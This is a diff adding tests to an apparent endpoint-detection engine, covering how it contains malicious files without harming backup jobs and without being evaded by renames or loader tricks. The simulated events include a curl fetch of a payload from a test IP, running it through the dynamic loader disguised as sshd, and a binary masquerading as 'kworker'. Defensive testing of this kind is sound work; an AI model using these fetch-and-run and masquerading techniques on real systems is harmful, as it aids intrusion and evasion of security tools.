@@ -63,6 +63,7 @@ function endpoint() {
         exclusions: [],
         containedLastHour: 0,
         now: clock.now(),
+        renames: tracker.renames(story.storyId),
         protectedEntityIds,
       }),
     }));
@@ -167,6 +168,80 @@ describe('is shown, but not stopped', () => {
     see('file_event', installer, { TargetFilename: '/etc/cron.d/example' });
     see('file_event', installer, { TargetFilename: '/etc/profile.d/example.sh' });
     expect(verdicts().map(({ verdict }) => verdict.reason)).toEqual(['below_threshold']);
+  });
+});
+
+describe('cannot be made a weapon', () => {
+  test("a test file in somebody's home does not kill the backup that copies it", () => {
+    const { alice, cron, run, see, verdicts } = endpoint();
+    const job = run(300, cron, '/usr/bin/dash', '/bin/sh -c cp -a /home /backup');
+    const copier = run(301, job, '/usr/bin/cp', 'cp -a /home /backup');
+    const borg = run(302, job, '/usr/bin/python3.12', '/usr/bin/python3 /usr/bin/borg create /backup::x /home');
+    see('file_event', copier, { TargetFilename: '/backup/home/mallory/x', sha256: EICAR });
+    see('file_event', borg, { TargetFilename: '/backup/data/0/7', sha256: EICAR });
+    const browser = run(303, alice, '/usr/lib/firefox/firefox');
+    see('file_event', browser, { TargetFilename: '/home/alice/Downloads/x', sha256: EICAR });
+    for (const { verdict } of verdicts()) {
+      expect(verdict).toMatchObject({ decision: 'contain', furtherRootEntityIds: [] });
+      expect(verdict).not.toHaveProperty('rootEntityId');
+    }
+    expect(verdicts().flatMap(({ verdict }) => verdict.files)).toEqual([
+      '/backup/home/mallory/x',
+      '/backup/data/0/7',
+      '/home/alice/Downloads/x',
+    ]);
+  });
+
+  test('what carried a listed file leads nothing else into the story', () => {
+    const { alice, run, see, verdicts } = endpoint();
+    const browser = run(303, alice, '/usr/lib/firefox/firefox');
+    see('file_event', browser, { TargetFilename: '/home/alice/Downloads/x', sha256: EICAR });
+    run(304, browser, '/usr/bin/xdg-open', 'xdg-open /home/alice/a.pdf');
+    see('file_event', browser, { TargetFilename: '/home/alice/Downloads/holiday.jpg' });
+    const [only, ...others] = verdicts();
+    expect(others).toEqual([]);
+    expect(only?.story.processes.filter(({ context }) => !context)).toHaveLength(1);
+    expect(only?.story.files.map(({ path }) => path)).toEqual(['/home/alice/Downloads/x']);
+  });
+
+  test('a script that writes listed files is no carrier', () => {
+    const { alice, run, see, verdicts } = endpoint();
+    const script = run(300, alice, '/usr/bin/python3.12', 'python3 /tmp/drop.py');
+    see('file_event', script, { TargetFilename: '/home/alice/x', sha256: EICAR });
+    expect(verdicts()).toMatchObject([{ verdict: { decision: 'contain', rootEntityId: script } }]);
+  });
+});
+
+describe('does not escape by', () => {
+  test('renaming its own file, back and forth', () => {
+    const { alice, run, see, verdicts } = endpoint();
+    const copy = run(300, alice, '/tmp/kworker', './kworker 60', { sha256: 'a'.repeat(64) });
+    const rename = (from: string, to: string) => see('file_rename', copy, { SourceFilename: from, TargetFilename: to });
+    rename('/tmp/kworker', '/tmp/x');
+    rename('/tmp/x', '/var/tmp/y');
+    expect(verdicts()[0]?.verdict.files).toEqual(['/var/tmp/y']);
+    rename('/var/tmp/y', '/tmp/kworker');
+    expect(verdicts()[0]?.verdict.files).toEqual(['/tmp/kworker']);
+  });
+
+  test('renaming the folder in which its file lies', () => {
+    const { alice, run, see, verdicts } = endpoint();
+    const copy = run(300, alice, '/tmp/a/kworker', './kworker 60', { sha256: 'a'.repeat(64) });
+    see('file_rename', copy, { SourceFilename: '/tmp/a', TargetFilename: '/tmp/b', IsDirectory: true });
+    expect(verdicts()).toMatchObject([
+      { story: { files: [{ path: '/tmp/b/kworker', state: 'present' }] } },
+    ]);
+    expect(verdicts()[0]?.verdict.files).toEqual(['/tmp/b/kworker']);
+  });
+
+  test('having the loader run the file that it fetched', () => {
+    const { alice, run, see, verdicts } = endpoint();
+    const curl = run(300, alice, '/usr/bin/curl', 'curl -so /tmp/p http://192.0.2.1:8000/p');
+    see('network_connection', curl, { DestinationIp: '192.0.2.1', DestinationPort: 8000 });
+    see('file_event', curl, { TargetFilename: '/tmp/p' });
+    const loader = '/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2';
+    const payload = run(301, alice, loader, `${loader} --argv0 sshd --library-path /tmp/l /tmp/p -x`);
+    expect(verdicts()).toMatchObject([{ verdict: { decision: 'contain', rootEntityId: payload, files: ['/tmp/p'] } }]);
   });
 });
 
